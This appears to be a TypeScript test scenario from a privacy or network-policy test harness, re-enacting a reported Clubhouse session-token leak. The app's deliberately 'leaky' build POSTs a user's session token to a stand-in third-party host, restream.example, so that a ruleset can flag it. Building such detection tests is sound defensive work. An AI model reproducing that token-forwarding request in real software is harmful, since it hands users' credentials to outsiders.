import type { Scenario } from '../scenario.js';

const json = { 'content-type': 'application/json' };
/** Made anew at every login in the world; the same here in every run, so that runs can be compared. */
const token = 'sess-9f31c07a5d1e8a77c94b40f2b6';

/** S18: a session token is handed to a stranger, who listens in its owner's name and streams the rooms again. */
export const roomsStreamedAgain: Scenario = {
  id: 'S18',
  title: 'Rooms that a third party streams again',
  standing: 'published',
  story: 'Somebody streamed the sound of many rooms to a web site of their own, listening with session tokens of members.',
  source: 'Bloomberg on Clubhouse, 22 February 2021',
  note: 'how the stranger came by a token is made up. The token is not known before the run: the ruleset takes it from the answer to the login.',
  ruleset: 's18.yaml',
  violates: ['token-for-us-alone'],
  origins: [
    {
      host: 'api.voice.example',
      scheme: 'https',
      respond: ({ path }) => ({ body: JSON.stringify(path === '/login' ? { token } : { rooms: [7] }), headers: json }),
    },
    { host: 'restream.example', scheme: 'https', respond: () => ({ body: '{"listening":true}', headers: json }) },
  ],
  async app(device, build) {
    await device.request('api.voice.example', 'POST', '/login', '{"user":"qa"}', json);
    await device.request('api.voice.example', 'GET', '/rooms', undefined, { authorization: `Bearer ${token}` });
    if (build === 'leaky') await device.request('restream.example', 'POST', '/listen', JSON.stringify({ room: 7, session: token }), json);
    else await device.request('restream.example', 'POST', '/listen', JSON.stringify({ room: 7, embed: true }), json);
  },
};
